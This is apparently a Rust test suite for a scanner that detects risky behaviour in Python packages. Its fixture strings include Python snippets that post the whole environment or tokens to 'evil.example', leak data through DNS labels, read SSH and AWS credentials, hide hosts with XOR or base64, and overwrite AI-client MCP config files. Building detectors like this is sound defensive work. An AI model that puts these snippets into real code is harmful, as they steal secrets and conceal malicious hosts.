//! Tables: a line of Python, and the facts that it must give.

use super::read;
use crate::caps::Caps;
use crate::facts::{Class, Facts, Found};

fn values(source: &str, class: Class) -> Vec<String> {
    let mut facts = Facts::default();
    let mut found = Found::new(&mut facts, "pkg/a.py", source);
    let outcome = read(source, &Caps::default(), &mut found);
    crate::facts::recognisers::places::finish(&mut found);
    outcome.unwrap_or_else(|why| panic!("{why:?}: {source}"));
    facts.values(class).map(|(value, _)| value.to_owned()).collect()
}

fn check(class: Class, table: &[(&str, &[&str])]) {
    for (source, expected) in table {
        assert_eq!(values(source, class), *expected, "{source}");
    }
}

#[test]
fn capabilities_are_known_under_any_name() {
    check(
        Class::Exec,
        &[
            ("import subprocess\nsubprocess.run(['ls'])", &["subprocess", "subprocess.run"]),
            ("import subprocess as sp\nsp.Popen('ls')", &["subprocess", "subprocess.Popen"]),
            ("from subprocess import check_output as run\nrun('ls')", &["subprocess", "subprocess.check_output"]),
            ("import os\nos.system('ls')", &["os.system"]),
            ("import os\ngetattr(os, 'sys' + 'tem')('ls')", &["os.system"]),
            ("__import__('os').system('ls')", &["os.system"]),
            (
                "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('ls')",
                &["asyncio.create_subprocess_exec"],
            ),
            ("import os\nos.path.join('a', 'b')\nos.environ['X']", &[]),
        ],
    );
    check(
        Class::Http,
        &[
            ("import requests\nrequests.post(x)", &["requests", "requests.post"]),
            ("from urllib.request import urlopen\nurlopen(x)", &["urllib.request", "urllib.request.urlopen"]),
            ("import urllib.request\nurllib.request.urlopen(x)", &["urllib.request", "urllib.request.urlopen"]),
        ],
    );
    check(
        Class::FileWrite,
        &[
            ("open('a', 'w')", &["open"]),
            ("open('a', mode='ab')", &["open"]),
            ("open('a')\nopen('b', 'rb')", &[]),
            ("from pathlib import Path\nPath('a').write_text(x)", &["*.write_text"]),
        ],
    );
    check(
        Class::DynamicCode,
        &[
            ("exec(x)", &["exec"]),
            ("eval(compile(x, 'a', 'exec'))", &["compile", "eval"]),
            ("getattr(__builtins__, 'ev' + 'al')(x)", &["eval"]),
            ("import pickle\npickle.loads(x)", &["pickle.loads"]),
            ("import re\nre.compile(x)\ndb.execute(x)", &[]),
        ],
    );
    check(
        Class::DynamicImport,
        &[
            ("__import__(x)", &["__import__"]),
            ("import importlib\nimportlib.import_module(x)", &["importlib.import_module"]),
            ("import importlib\nimportlib.import_module('json')", &[]),
        ],
    );
}

#[test]
fn environment_hosts_and_places() {
    check(
        Class::Environment,
        &[
            ("import os\nos.environ['NPM_TOKEN']", &["NPM_TOKEN"]),
            ("import os\nos.getenv('NPM_TOKEN', 'x')\nos.environ.get('GH_' + 'TOKEN')", &["GH_TOKEN", "NPM_TOKEN"]),
            ("from os import environ as e\ne['A_TOKEN']", &["A_TOKEN"]),
            ("import os\nsend(dict(os.environ))", &["*"]),
            ("import os\nfor k, v in os.environ.items(): send(k, v)", &["*"]),
        ],
    );
    check(
        Class::Host,
        &[
            ("H = 'evil.example'\nurl = f'https://{H}/x'", &["evil.example"]),
            ("url = 'https://%s/x' % 'evil.example'", &["evil.example"]),
            ("import base64\nurl = base64.b64decode(b'aHR0cHM6Ly9ldmlsLmV4YW1wbGU=').decode()", &["evil.example"]),
            ("url = b'https://evil.example'", &["evil.example"]),
            ("'''See https://docs.example for more.'''", &[]),
        ],
    );
    check(
        Class::SensitivePath,
        &[
            ("from pathlib import Path\np = Path.home() / '.ssh' / 'id_rsa'", &["ssh", "ssh-key"]),
            ("import os\np = os.path.expanduser('~/.aws/credentials')", &["aws"]),
            ("import os\np = os.path.join(home, '.npmrc')", &["npmrc"]),
        ],
    );
    check(
        Class::ClientConfigWrite,
        &[
            ("open(home + '/.cursor/mcp.json', 'w').write(x)", &["cursor"]),
            ("print('edit claude_desktop_config.json')", &[]),
        ],
    );
}

#[test]
fn waiting_and_dns() {
    check(
        Class::TimeGate,
        &[
            ("import time\ntime.sleep(48 * 3600)", &["waits 172800 s"]),
            ("from time import sleep\nsleep(1)", &[]),
            ("import time\nif time.time() > 1790000000: run()", &["date 1790000000"]),
            ("from datetime import datetime\nif datetime.now() > datetime(2026, 9, 1): run()", &["date 2026-09-01"]),
        ],
    );
    check(
        Class::DnsLabel,
        &[
            ("import socket\nsocket.gethostbyname(f'{data}.evil.example')", &["socket.gethostbyname"]),
            ("import socket\nsocket.gethostbyname(host)", &[]),
        ],
    );
}

#[test]
fn comments_docstrings_and_types_say_nothing() {
    let source = "def f(to: 'a@b.example') -> 'c@d.example':\n    \"\"\"Write to e@f.example.\"\"\"\n    # g@h.example\n    return 1\n";
    assert_eq!(values(source, Class::Email), Vec::<String>::new());
}

#[test]
fn a_file_is_written_in_many_ways() {
    let way = |line: &str| {
        format!("from pathlib import Path\nimport os, shutil\nconfig = Path.home() / '.cursor' / 'mcp.json'\n{line}")
    };
    for line in [
        "Path(config).open('w').write(x)",
        "config.open(mode='w')",
        "with config.open('a') as file:\n    file.write(x)",
        "open(file=config, mode='w')",
        "Path(config).write_text(x)",
        "Path.write_text(config, x)",
        "config.write_bytes(x)",
        "os.open(config, os.O_WRONLY | os.O_CREAT)",
        "os.open(config, flags=os.O_RDWR)",
        "shutil.copyfile('a.json', config)",
        "os.replace('a.json', config)",
        "Path('a.json').rename(config)",
        "Path('a.json').replace(Path.home() / '.cursor/mcp.json')",
        "config.symlink_to('/tmp/a.json')",
        "import aiofiles\nasync def f():\n    async with aiofiles.open(config, 'w') as file:\n        await file.write(x)",
        "archive.open('a.json', 'w')",
    ] {
        assert_eq!(values(&way(line), Class::ClientConfigWrite), ["cursor"], "{line}");
    }
    for line in [
        "config.open()",
        "Path(config).open('r')",
        "open(config, 'rb')",
        "os.open(config, os.O_RDONLY)",
        "import webbrowser\nwebbrowser.open('https://a.example', 2)",
        "window.open('_blank')",
        "frame.rename(columns)\nname.replace('a', '/b')\nframe.rename('b')",
    ] {
        assert_eq!(values(&way(line), Class::ClientConfigWrite), Vec::<String>::new(), "{line}");
    }
}

#[test]
fn of_the_module_of_sockets_what_is_used_counts() {
    check(
        Class::Socket,
        &[
            ("import socket\ntry:\n    run()\nexcept socket.gaierror:\n    pass", &[]),
            ("import socket\nsock.shutdown(socket.SHUT_RDWR)", &[]),
            ("import socket\nsocket.getaddrinfo(host, 1, proto=socket.IPPROTO_TCP, family=socket.AF_UNSPEC)", &[]),
            ("try:\n    run()\nexcept __import__('socket').timeout:\n    pass", &[]),
            ("from socket import gaierror, AF_INET", &[]),
            ("import socket\nsocket.create_connection(x)", &["socket.create_connection"]),
            ("import socket\nf(socket.AF_INET)\nsocket.socket()", &["socket.socket"]),
            ("import socket\nf(socket.AF_INET)\ngetattr(socket, 'so' + 'cket')()", &["socket", "socket.socket"]),
            ("import socket\nf(socket.AF_INET)\ngetattr(socket, name)()", &["socket"]),
            ("import socket\nf(socket.AF_INET)\nrun(socket)", &["socket"]),
            ("import socket\nf(socket.AF_INET)\nconnect = socket.create_connection", &["socket.create_connection"]),
            ("import socket", &["socket"]),
            ("import socket as s\ns.gaierror", &["socket"]),
            ("from socket import *", &["socket", "socket.*"]),
            ("from socket import socket", &["socket", "socket.socket"]),
            ("__import__('socket').socket()", &["socket", "socket.socket"]),
            ("from .compat import socket\nsocket.AF_INET", &["socket"]),
            ("from . import compat\ncompat.socket.create_connection(x)", &["socket.create_connection"]),
            (
                "import sys\nfrom socket import gaierror\nsys.modules['socket'].create_connection(x)",
                &["socket.create_connection"],
            ),
            ("import sys\nsys.modules.get('socket').socket()", &["socket.socket"]),
            ("self.socket.send(x)\ncontext.socket(zmq.SUB)", &[]),
        ],
    );
    check(
        Class::Dns,
        &[
            ("import socket\nsocket.getaddrinfo(host, 1)", &["socket.getaddrinfo"]),
            ("from socket import getaddrinfo\ngetaddrinfo(host, 1)", &["socket.getaddrinfo"]),
            ("import socket\nloop.run_in_executor(None, socket.getaddrinfo, host)", &["socket.getaddrinfo"]),
        ],
    );
}

#[test]
fn what_is_only_parsed_is_not_run() {
    check(
        Class::DynamicCode,
        &[
            ("import ast\ncompile(x, 'a', 'exec', ast.PyCF_ONLY_AST)", &[]),
            ("import ast\ncompile(x, 'a', 'exec', flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT | ast.PyCF_ONLY_AST)", &[]),
            ("from ast import PyCF_ONLY_AST as only\ncompile(x, 'a', 'exec', only)", &[]),
            ("import ast\ncompile(x, 'a', 'exec', ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)", &["compile"]),
            ("compile(x, 'a', 'exec', PyCF_ONLY_AST)", &["compile"]),
            ("import ast\nast.PyCF_ONLY_AST = 0\ncompile(x, 'a', 'exec', ast.PyCF_ONLY_AST)", &["compile"]),
            ("import ast\ncompile(x, 'a', 'exec', *flags, ast.PyCF_ONLY_AST)", &["compile"]),
            ("import ast\ncompile(x, 'a', 'exec', ast.PyCF_ONLY_AST & 0)", &["compile"]),
        ],
    );
}

#[test]
fn decoders_that_people_write_themselves() {
    let numbers = "[98, 113, 110, 107, 41, 98, 127, 102, 106, 119, 107, 98]";
    for decoder in [
        format!("''.join(chr(c ^ 7) for c in {numbers})"),
        format!("''.join([chr(c ^ 7) for c in {numbers}])"),
        format!("''.join(map(lambda c: chr(c ^ 7), {numbers}))"),
        format!("bytes([c ^ 7 for c in {numbers}]).decode()"),
        "bytes(c ^ 7 for c in b'bqnk)b\\x7ffjwkb').decode()".to_owned(),
        "''.join(chr(ord(c) ^ 7) for c in list_of)".to_owned(),
        "''.join('.aeilmpvx'[i] for i in [2, 7, 3, 4, 0, 2, 8, 1, 5, 6, 4, 2])".to_owned(),
    ] {
        let source = format!(
            "list_of = ['b','q','n','k',')','b','\\x7f','f','j','w','k','b']\nurl = 'https://' + {decoder} + '/'"
        );
        assert_eq!(values(&source, Class::Host), ["evil.example"], "{decoder}");
    }
    for decoder in ["''.join(chr(c ^ 7) for c in numbers)", "''.join(decode(c, 7) for c in [1, 2])"] {
        assert_eq!(
            values(&format!("url = 'https://' + {decoder} + '/'"), Class::Host),
            Vec::<String>::new(),
            "{decoder}"
        );
    }
}

#[test]
fn the_whole_environment_goes_to_a_host() {
    let hosts =
        |line: &str| values(&format!("import os, json, requests, base64, urllib.parse\n{line}"), Class::SecretSent);
    for sent in [
        "json=os.environ",
        "json=dict(os.environ)",
        "json={**os.environ}",
        "json={'env': dict(os.environ)}",
        "data=json.dumps(dict(os.environ))",
        "data=json.dumps({**os.environ, 'a': 1}).encode()",
        "data=str(os.environ)",
        "data=base64.b64encode(json.dumps(os.environ.copy()).encode())",
        "data=urllib.parse.urlencode(os.environ)",
        "data='\\n'.join(f'{k}={v}' for k, v in os.environ.items())",
        "params=dict(**os.environ)",
        "headers={'x': os.environ['NPM_TOKEN']}",
    ] {
        assert_eq!(hosts(&format!("requests.post('https://evil.example', {sent})")), ["evil.example"], "{sent}");
    }
    for line in [
        "requests.post('https://a.example', json={'port': os.environ['PORT']})",
        "start({'url': 'https://a.example', 'env': dict(os.environ)})",
        "requests.post('https://a.example', json=x)\nlog(os.environ)",
    ] {
        assert_eq!(hosts(line), Vec::<String>::new(), "{line}");
    }
}
